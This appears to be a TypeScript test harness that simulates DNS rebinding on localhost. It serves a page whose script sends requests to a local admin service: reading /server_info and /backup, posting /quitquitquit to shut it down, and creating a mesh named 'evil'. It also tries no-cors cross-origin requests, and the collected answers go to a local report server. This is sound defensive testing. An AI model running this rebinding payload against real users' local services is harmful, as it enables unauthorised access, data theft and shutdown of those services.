// The server of a page whose name first resolves to the server itself, and then to another program of the same machine, as in DNS rebinding. `node
// rebinder-program.ts PORT TARGET`, TARGET a port of 127.0.0.1. Once the page is loaded, connections of the browser to 127.0.0.1:PORT are forwarded
// to the target, byte by byte. Prints the answers that the page got as one line of JSON. With a third argument `foreign`, the page keeps
// its own name and sends the requests to 127.0.0.1:TARGET, another origin, whose answers a browser does not show it.
import { createServer as createHttpServer } from 'node:http';
import { connect, createServer, type Socket } from 'node:net';
import { pipeline } from 'node:stream';

/** The requests that the page sends to its own host and port. */
const ASKED = [
  ['GET', '/status'],
  ['GET', '/server_info'],
  ['GET', '/backup'],
  ['POST', '/quitquitquit'],
  ['PUT', '/v20190125/meshes', JSON.stringify({ meshName: 'evil' })],
] as const;

/** The options of a request to the page's own origin. */
const OWN = "{ method, body, headers: body && { 'content-type': 'application/json' } }";
/** The options of a request that a browser sends to another origin without asking it first. */
const FOREIGN = "method === 'PUT' ? { method: 'POST', mode: 'no-cors', body } : { method, mode: 'no-cors' }";

const [port, target] = process.argv.slice(2, 4).map(Number);
const isForeign = process.argv[4] === 'foreign';
let isBound = false;

const reports = createHttpServer((request, response) => {
  const chunks: Buffer[] = [];
  request.on('data', (chunk: Buffer) => void chunks.push(chunk));
  request.on('end', () => {
    process.stdout.write(`${Buffer.concat(chunks).toString()}\n`);
    response.end();
  });
});
reports.listen(0, '127.0.0.1', () => {
  const address = reports.address() as { readonly port: number };
  const pages = createHttpServer((_request, response) => {
    isBound = !isForeign;
    response.writeHead(200, { 'content-type': 'text/html', connection: 'close' });
    response.end(page(address.port));
  });
  // The first byte of a connection decides its target: a browser opens some connections ahead of use.
  createServer((socket) => {
    socket.on('error', () => undefined);
    socket.once('readable', () => (isBound ? passOn(socket) : pages.emit('connection', socket)));
  }).listen(port, '127.0.0.1', () => process.stdout.write('listening\n'));
});

function passOn(socket: Socket): void {
  const far = connect({ host: '127.0.0.1', port: target ?? 0 });
  pipeline(socket, far, () => undefined);
  pipeline(far, socket, () => undefined);
}

function page(reportPort: number): string {
  return `<!doctype html><script>
(async () => {
  const answers = [];
  for (const [method, path, body] of ${JSON.stringify(ASKED)}) {
    const answer = await fetch('${isForeign ? `http://127.0.0.1:${target}` : ''}' + path, ${isForeign ? FOREIGN : OWN})
      .then(async (response) => ({ status: response.status, body: (await response.text()).slice(0, 300) }), (error) => ({ error: String(error) }));
    answers.push({ method, path, ...answer });
  }
  await fetch('http://127.0.0.1:${reportPort}/', { method: 'POST', mode: 'no-cors', body: JSON.stringify(answers) });
})();
</script>`;
}
